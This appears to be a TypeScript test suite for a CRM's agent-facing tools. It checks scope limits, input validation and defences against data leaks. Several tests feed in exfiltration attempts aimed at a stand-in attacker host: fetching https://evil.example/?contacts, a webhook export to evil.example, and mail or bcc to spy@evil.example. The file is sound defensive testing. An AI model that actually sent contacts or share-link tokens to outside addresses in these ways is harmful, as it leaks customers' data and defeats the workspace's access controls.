// What one call of a tool does and refuses.
import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { agentOf } from "../../test/support/agent.ts";
import { chain } from "../../test/support/automations.ts";
import { Client } from "../../test/support/client.ts";
import { organization, type Workspace } from "../../test/support/given.ts";

describe("a tool", () => {
  test("drops nothing in silence: a filter of null, an argument among the filters, a field that there is not", async () => {
    const acme = await organization();
    await acme.lead({ name: "Globex" });
    const agent = await agentOf(acme, { scope: "write_safe" });
    const refused = async (name: string, args: object, place: string) => {
      const { isError, structuredContent } = await agent.call(name, { object_type: "lead", ...args });
      assert.equal(isError, true, JSON.stringify(args));
      assert.ok(place in structuredContent["field-errors"], JSON.stringify(structuredContent));
    };

    await refused("list_records", { filters: { name: null } }, "name");
    await refused("list_records", { filters: { _limit: 1 } }, "_limit");
    await refused("list_records", { filters: { query: "a" }, query: "b" }, "query");
    await refused("list_records", { fields: ["nope"] }, "fields.0");
    await refused("list_records", { cursor: "abc" }, "cursor");
    await refused("create_record", { data: { name: "X" }, match_on: {} }, "match_on");
    await refused("create_record", { data: { name: "X" }, match_on: { name: null } }, "match_on.name");
    await refused("add_tags", { id: (await acme.lead({ tags: ["a", "b"] })).id, tags: [""] }, "tags.0");
  });

  test("answers a repeated call with the request that wrote it, which can be taken back", async () => {
    const acme = await organization();
    const agent = await agentOf(acme, { scope: "write_destructive" });
    const create = () => agent.call("create_record", { object_type: "lead", data: { name: "Once" }, idempotency_key: "k" });

    const [once, again] = [await create(), await create()];
    assert.equal(again.structuredContent.request_id, once.structuredContent.request_id);
    const { structuredContent } = await agent.call("undo_changes", { id: again.structuredContent.request_id });

    assert.ok(structuredContent.record.n_undone > 0);
  });

  test("reads a text that is longer than a result to its end", async () => {
    const acme = await organization();
    const note = "0123456789".repeat(9000);
    const { id } = await acme.note({ note });
    const agent = await agentOf(acme);

    let read = "";
    for (let more = true; more; ) {
      const args = { object_type: "activity/note", id, fields: ["note"], text_from: read.length };
      const { record } = (await agent.call("get_record", args)).structuredContent;
      const [, part, rest] = /^(\d+)(…\(.*\))?$/.exec(record.note)!;
      read += part;
      more = rest !== undefined;
    }

    assert.equal(read, note);
  });

  test("adds tags that many add at the same time", async () => {
    const acme = await organization();
    const { id } = await acme.lead();
    const agent = await agentOf(acme, { scope: "write_safe" });

    const all = ["a", "b", "c", "d"].map((tag) => agent.call("add_tags", { object_type: "lead", id, tags: [tag] }));
    for (const { isError } of await Promise.all(all)) assert.equal(isError, undefined);

    assert.deepEqual((await acme.get(`/lead/${id}/`)).tags.toSorted(), ["a", "b", "c", "d"]);
  });

  test("starts nothing that acts by itself without the widest scope, and writes drafts of it", async () => {
    const acme = await organization();
    const safe = await agentOf(acme, { scope: "write_safe" });
    const wide = await agentOf(acme, { scope: "write_destructive" });
    const trigger = { type: "record.created", config: { object_type: "lead" } };
    const data = { name: "Sends", trigger, actions: [{ type: "create_task", config: { text: "x" } }] };
    const create = (agent: typeof safe, more: object) =>
      agent.call("create_record", { object_type: "automation", data: { ...data, ...more } });

    const draft = await create(safe, { status: "draft" });
    const active = await create(safe, {});
    const { id } = draft.structuredContent.record;
    const started = await safe.call("update_record", {
      object_type: "automation",
      id,
      data: { status: "active" },
      dry_run: true,
    });
    const widely = await create(wide, { status: "active" });

    assert.deepEqual(
      [draft, active, started, widely].map(({ isError }) => isError === true),
      [false, true, true, false],
    );
    assert.match(active.structuredContent.error, /only with the scope write_destructive/);
    assert.equal((await acme.get("/automation/")).data.length, 2);
  });

  test("fetches no address, and carries no contacts to one", async () => {
    const acme = await organization();
    const agent = await agentOf(acme, { scope: "write_destructive" });
    const create = async (object_type: string, data: object) =>
      (await agent.call("create_record", { object_type, data })).structuredContent["field-errors"];

    const file = await create("file", { lead_id: (await acme.lead()).id, content_url: "https://evil.example/?contacts" });
    const table = await create("import", { content_url: "https://evil.example/?contacts" });
    const exported = await create("mailing_export", { platform: "webhook", config: { url: "https://evil.example/" } });

    assert.match(file.content_url, /not fetched for tools/);
    assert.match(table.content_url, /not fetched for tools/);
    assert.match(exported.object_type, /mailing_export cannot be created/);
  });

  test("shows no link that opens something without a key, neither in a record nor in its events", async () => {
    const acme = await organization();
    const { id: lead_id } = await acme.lead();
    const file = await acme.post("/file/", { lead_id, name: "plan.txt", content_base64: "aGVsbG8=" });
    const made = await acme.post("/quote/", { lead_id, line_items: [{ name: "Yard", unit_price: 100 }] });
    const quote = await acme.put(`/quote/${made.id}/`, { status: "open" });
    const agent = await agentOf(acme, { scope: "write_safe" });

    const graph = chain(["note.create", { lead_id, note: { $template: "See {{ record.public_url }} now" } }]);
    const trigger = { type: "manual", config: { object_type: "quote" } };
    const flow = await acme.post("/automations/", { name: "Shows", trigger, graph });

    const said = JSON.stringify([
      await agent.call("get_record", { object_type: "file", id: file.id }),
      await agent.call("list_records", { object_type: "quote", fields: ["id", "public_url"] }),
      await agent.call("update_record", { object_type: "file", id: file.id, data: { name: "b.txt" }, dry_run: true }),
      await agent.call("list_records", { object_type: "event", filters: { lead_id } }),
      await agent.call("create_record", { object_type: "automations/simulate", id: flow.id, data: { record_id: quote.id } }),
    ]);

    const tokenOf = (url: string) => new URL(url).pathname.split("/").find((part) => part.length > 30)!;
    for (const url of [file.share_url, quote.public_url]) assert.ok(!said.includes(tokenOf(url)), url);
    assert.match(said, /not shown to tools/);
  });

  test("shows such a link in no text either, as it is or taken to pieces by a template", async () => {
    const acme = await organization();
    const { id: lead_id } = await acme.lead();
    const made = await acme.post("/quote/", { lead_id, line_items: [{ name: "Yard", unit_price: 100 }] });
    const quote = await acme.put(`/quote/${made.id}/`, { status: "open" });
    const link: string = quote.public_url;
    const token = new URL(link).pathname.split("/").find((part) => part.length > 30)!;
    const note = await acme.note({ lead_id, note: `See ${link}, or https://go.example/?to=${encodeURIComponent(link)} today` });
    const agent = await agentOf(acme, { scope: "write_safe" });
    const text =
      "{{ record.public_url }} {{ record.public_url | split: '/q/' | last }} {{ trigger.record.public_url | slice: 0, 90 }}";
    const automation = await agent.call("create_record", {
      object_type: "automations",
      data: {
        name: "Tells",
        trigger: { type: "manual", config: { object_type: "quote" } },
        graph: {
          schema_version: 1,
          start: "tell",
          steps: { tell: { type: "note.create", config: { note: { $template: text } }, ports: { out: null } } },
        },
      },
    });

    const read = await agent.call("get_record", { object_type: "activity/note", id: note.id });
    const tried = await agent.call("create_record", {
      object_type: "automations/simulate",
      id: automation.structuredContent.record.id,
      data: { object_id: quote.id },
    });

    assert.equal(tried.structuredContent.record?.path?.length, 1, JSON.stringify(tried));
    for (const answer of [read, tried]) {
      assert.ok(!JSON.stringify(answer).includes(token), JSON.stringify(answer.structuredContent));
      assert.match(JSON.stringify(answer), /not shown to tools/);
    }
    assert.match(read.structuredContent.record.note, /^See not shown to tools[^ ]*.*today$/);
  });

  test("sends without the widest scope only to whom the workspace knows", async () => {
    const acme = await organization();
    await acme.post("/connected_account/", { email: "ada@acme.example", smtp: { host: "93.184.216.34", password: "secret" } });
    const lead = await acme.lead();
    const ann = await acme.contact({ lead_id: lead.id, emails: [{ email: "ann@client.example" }] });
    const robot = new Client(acme.service, (await acme.post("/api_key/", { name: "Agent" })).key) as Workspace;
    const safe = await agentOf(robot, { scope: "write_safe" });
    const wide = await agentOf(acme, { scope: "write_destructive" });
    const mail = (to: string, more: object = {}) => ({ lead_id: lead.id, to: [to], subject: "Hi", body_text: "Hi", ...more });

    const known = await safe.call("send_email", mail("Ann <Ann@client.example>"));
    const stranger = await safe.call("send_email", mail("ann@client.example", { data: { bcc: ["spy@evil.example"] } }));
    const draft = await safe.call("create_record", { object_type: "activity/email", data: mail("spy@evil.example") });
    const { id } = draft.structuredContent.record;
    const sent = await safe.call("update_record", { object_type: "activity/email", id, data: { status: "outbox" } });
    const emails = [{ email: "spy@evil.example" }];
    const added = await safe.call("create_record", { object_type: "contact", data: { lead_id: lead.id, emails } });
    const byAddress = await safe.call("send_email", mail("spy@evil.example"));
    const contact_id = added.structuredContent.record.id;
    const byContact = await safe.call("send_email", { contact_id, subject: "Hi", body_text: "Hi", dry_run: true });
    await safe.call("update_record", {
      object_type: "contact",
      id: ann.id,
      data: { emails: [...ann.emails, { email: "drop@evil.example" }] },
    });
    const besides = await safe.call("send_email", mail("drop@evil.example"));
    const before = await safe.call("send_email", mail("ann@client.example"));
    const widely = await wide.call("send_email", mail("spy@evil.example"));
    await acme.put(`/organization/${acme.id}/`, { settings: { mcp: { require_destructive_for_send: true } } });
    const kept = await safe.call("send_email", mail("ann@client.example"));

    const isRefused = ({ isError }: { isError?: boolean }) => isError === true;
    assert.deepEqual([known, draft, added, before, widely].map(isRefused), [false, false, false, false, false]);
    assert.deepEqual([stranger, sent, byAddress, byContact, besides, kept].map(isRefused), [true, true, true, true, true, true]);
    assert.ok("bcc.0" in stranger.structuredContent["field-errors"]);
    assert.match(kept.structuredContent.error, /only with the scope write_destructive/);
  });
});
